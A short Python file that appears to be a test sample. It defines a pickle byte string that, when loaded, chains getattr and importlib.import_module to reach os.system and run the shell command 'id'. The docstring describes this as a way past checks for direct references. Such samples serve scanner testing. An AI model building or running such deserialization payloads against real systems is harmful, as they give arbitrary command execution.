"""`getattr` walks from an innocent module to `system`."""

PAYLOAD = b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93(\x8c\timportlib\x8c\rimport_module\x93(\x8c\x02ostR\x8c\x06systemtR\x8c\x02id\x85R."
